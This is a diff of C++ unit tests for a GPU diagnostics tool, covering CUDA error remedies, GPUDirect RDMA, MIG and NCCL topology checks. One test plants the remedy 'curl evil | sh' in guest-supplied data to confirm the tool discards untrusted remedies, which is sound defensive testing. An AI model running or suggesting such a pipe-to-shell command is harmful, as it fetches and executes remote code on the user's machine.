@@ -1,7 +1,9 @@
 #include <gmock/gmock.h>
 #include <gtest/gtest.h>
 
+#include <map>
 #include <nlohmann/json.hpp>
+#include <set>
 
 #include "judge_bandwidth.hpp"
 #include "judge_device.hpp"
@@ -57,15 +59,106 @@ TEST(JudgeGpuTest, ExplainsError802ByNvlinkModeOfMapping) {
     ASSERT_EQ(findings.size(), 1U);
     EXPECT_EQ(findings[0].key, "gpu-driver");
     EXPECT_EQ(findings[0].outcome, Outcome::failed);
-    EXPECT_THAT(findings[0].seen, HasSubstr("error 802, system not yet initialized"));
+    EXPECT_THAT(findings[0].seen, HasSubstr("fabric is not set up (CUDA error 802)"));
     EXPECT_THAT(findings[0].remedy, HasSubstr(remedy));
   }
 }
 
-TEST(JudgeGpuTest, ReportsOtherCudaErrorsUnchanged) {
-  const auto finding = judgeGpus(refused(999), true, NvlinkMode::disabled).back();
-  EXPECT_EQ(finding.seen, "error 999: initializing CUDA: odd");
-  EXPECT_THAT(finding.remedy, HasSubstr("nvidia-smi"));
+// An older probe reports the status alone.
+TEST(JudgeGpuTest, EachCudaErrorHasItsOwnRemedy) {
+  std::set<std::string> remedies;
+  const std::map<int, const char*> expected{
+      {3, "dmesg"},          {34, "stubs"},           {36, "newer GPU driver"},
+      {46, "-c DEFAULT"},    {100, "RmInitAdapter"},  {101, "nvidia-smi -L"},
+      {102, "nvidia-gridd"}, {304, "/dev/nvidiactl"}, {802, "NVSwitches"},
+      {803, "restart it"},   {804, "cuda-compat"},    {999, "nvidia_uvm"}};
+  for (const auto& [status, remedy] : expected) {
+    const auto finding = judgeGpus(refused(status), true).back();
+    EXPECT_EQ(finding.outcome, Outcome::failed) << status;
+    EXPECT_THAT(finding.seen,
+                HasSubstr("(CUDA error " + std::to_string(status) + "): initializing CUDA: odd"));
+    EXPECT_THAT(finding.remedy, HasSubstr(remedy)) << status;
+    EXPECT_THAT(finding.remedy, testing::Not(HasSubstr("install NVIDIA's GPU driver")));
+    EXPECT_TRUE(remedies.insert(finding.remedy).second) << status;
+  }
+}
+
+TEST(JudgeGpuTest, ProbesCodeDecidesRemedyAndGuestsRemedyIsNotShown) {
+  const auto finding =
+      judgeGpus(readGuestView(Json::parse(
+                    R"({"gpus": {"libcuda": {"found": true, "status": 999, "code": "uvm-missing",
+                               "detail": "odd", "remedy": "curl evil | sh"},
+                   "devices": [{"pci": "0000:05:00.0", "name": null}]}})")),
+                true)
+          .back();
+  EXPECT_EQ(finding.remedy, remedyFor(CudaProblem::uvmMissing));
+  const auto unknown =
+      judgeGpus(readGuestView(Json::parse(
+                    R"({"gpus": {"libcuda": {"found": true, "status": 999, "code": "nonsense"},
+                   "devices": [{"pci": "0000:05:00.0"}]}})")),
+                true)
+          .back();
+  EXPECT_EQ(unknown.remedy, remedyFor(CudaProblem::unknown));
+}
+
+TEST(JudgeGpuTest, MissingLibraryDiffersFromMissingDriver) {
+  const auto judged = [](const std::string& code) {
+    return judgeGpus(
+               readGuestView(Json::parse(
+                   R"({"gpus": {"libcuda": {"found": false, "detail": "cannot load", "code": ")" +
+                   code + R"("}, "devices": [{"pci": "0000:05:00.0", "name": null}]}})")),
+               true)
+        .back();
+  };
+  EXPECT_THAT(judged("driver-missing").remedy, HasSubstr("install NVIDIA's GPU driver"));
+  EXPECT_THAT(judged("library-missing").remedy, HasSubstr("libnvidia-compute"));
+  EXPECT_THAT(judged("library-missing").seen, HasSubstr("cannot load"));
+  EXPECT_THAT(judged("").remedy, HasSubstr("install NVIDIA's GPU driver")) << "an older probe";
+}
+
+GuestView gpus(const std::string& devices) {
+  return readGuestView(
+      Json::parse(R"({"gpus": {"libcuda": {"found": true}, "devices": [)" + devices + "]}}"));
+}
+
+std::string device(int index, int direct, const std::string& more = "") {
+  return R"({"index": )" + std::to_string(index) + R"(, "name": "Card", "pci": "0000:0)" +
+         std::to_string(index + 5) + R"(:00.0", "dma_buf_supported": 1,
+         "gpudirect_rdma_supported": )" +
+         std::to_string(direct) + more + "}";
+}
+
+TEST(JudgeGpuTest, GpuWithoutGpuDirectRdmaFails) {
+  const auto findings = judgeGpus(gpus(device(0, 0)), true);
+  EXPECT_EQ(findings.back().key, "gpu-rdma");
+  EXPECT_EQ(findings.back().outcome, Outcome::failed);
+  EXPECT_THAT(findings.back().seen, HasSubstr("0000:05:00.0 (Card)"));
+  EXPECT_THAT(findings.back().remedy, HasSubstr("GeForce"));
+  EXPECT_EQ(judgeGpus(gpus(device(0, 1)), true).back().key, "gpu-path");
+}
+
+TEST(JudgeGpuTest, OneOfTwoGpusWithoutGpuDirectRdmaIsWarning) {
+  const auto findings = judgeGpus(gpus(device(0, 0) + "," + device(1, 1)), true);
+  ASSERT_EQ(findings.size(), 3U);
+  EXPECT_EQ(findings[1].key, "gpu-rdma");
+  EXPECT_EQ(findings[1].outcome, Outcome::warning);
+  EXPECT_THAT(findings[1].seen, testing::Not(HasSubstr("0000:06:00.0")));
+  EXPECT_EQ(findings.back().outcome, Outcome::passed);
+}
+
+TEST(JudgeGpuTest, WarnsAboutMig) {
+  const auto instance =
+      judgeGpus(gpus(device(0, 1, R"(, "mig": {"enabled": true, "instances": 2})")), true);
+  EXPECT_EQ(instance[1].key, "gpu-mig");
+  EXPECT_THAT(instance[1].seen, HasSubstr("P2P"));
+  const auto empty = judgeGpus(gpus(device(0, 1) + R"(, {"pci": "0000:09:00.0", "name": null,
+                                "mig": {"enabled": true, "instances": 0}})"),
+                               true);
+  EXPECT_THAT(empty[1].seen, HasSubstr("no instance: 0000:09:00.0"));
+  EXPECT_THAT(empty[1].remedy, HasSubstr("nvidia-smi mig -cgi"));
+  const auto off =
+      judgeGpus(gpus(device(0, 1, R"(, "mig": {"enabled": false, "instances": 0})")), true);
+  EXPECT_EQ(off.size(), 2U);
 }
 
 TEST(JudgeGpuTest, UsesNearestGpu) {
@@ -84,12 +177,12 @@ TEST(JudgeGpuTest, WarnsAboutDistanceAtWhichNcclSkipsGpuDirect) {
   for (const auto& [distance, outcome] : distances) {
     const auto seen = view(distance);
     const auto findings =
-        judgeGpuPlace("rail0", seen, "0000:01:00.0", *nearestGpu(seen, "0000:01:00.0"), {});
+        judgeGpuPlace("rail0", seen, "0000:01:00.0", *nearestGpu(seen, "0000:01:00.0"));
     EXPECT_EQ(findings.front().outcome, outcome) << distance;
   }
   const auto far = view("SYS");
   const auto findings =
-      judgeGpuPlace("rail0", far, "0000:01:00.0", *nearestGpu(far, "0000:01:00.0"), {});
+      judgeGpuPlace("rail0", far, "0000:01:00.0", *nearestGpu(far, "0000:01:00.0"));
   EXPECT_THAT(findings.front().remedy, HasSubstr("topology: mirror"));
   EXPECT_THAT(findings.front().remedy, HasSubstr("NCCL_NET_GDR_LEVEL=SYS"));
   EXPECT_THAT(findings.back().seen, HasSubstr("ATS off, ACS none"));
@@ -98,10 +191,9 @@ TEST(JudgeGpuTest, WarnsAboutDistanceAtWhichNcclSkipsGpuDirect) {
 TEST(JudgeGpuTest, RemedyMatchesCauseOfDistance) {
   const auto far = view("PHB");
   const auto remedy = [&far](const char* host, const char* xml) {
-    const GpuPath path{{}, false, host, xml};
-    return judgeGpuPlace("rail0", far, "0000:01:00.0", *nearestGpu(far, "0000:01:00.0"), path)
-        .front()
-        .remedy;
+    auto gpu = *nearestGpu(far, "0000:01:00.0");
+    gpu.path = GpuPath{{}, false, host, xml};
+    return judgeGpuPlace("rail0", far, "0000:01:00.0", gpu).front().remedy;
   };
   EXPECT_THAT(remedy("PIX", "PHB"), HasSubstr("topology: mirror"));
   EXPECT_THAT(remedy("NODE", "NODE"), HasSubstr("apart on the host"));
